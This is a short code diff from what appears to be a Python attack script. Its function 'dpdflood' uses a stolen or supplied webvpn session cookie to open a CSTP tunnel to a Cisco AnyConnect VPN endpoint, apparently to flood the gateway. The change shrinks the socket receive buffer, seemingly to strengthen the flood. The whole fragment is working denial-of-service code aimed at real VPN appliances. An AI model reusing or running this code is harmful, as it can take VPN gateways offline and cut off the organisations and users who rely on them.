@@ -216,7 +216,7 @@ def pipeline():
 
 def dpdflood():
     cookie = ARGS[0]
-    sock = tls_connect(0)
+    sock = tls_connect(0, rcvbuf=1024)
     sock.sendall(request("CONNECT", "/CSCOSSLC/tunnel",
                          [("Cookie", f"webvpn={cookie}"), ("X-CSTP-Version", "1"),
                           ("X-CSTP-Hostname", "flood"), ("X-CSTP-MTU", "1400"),
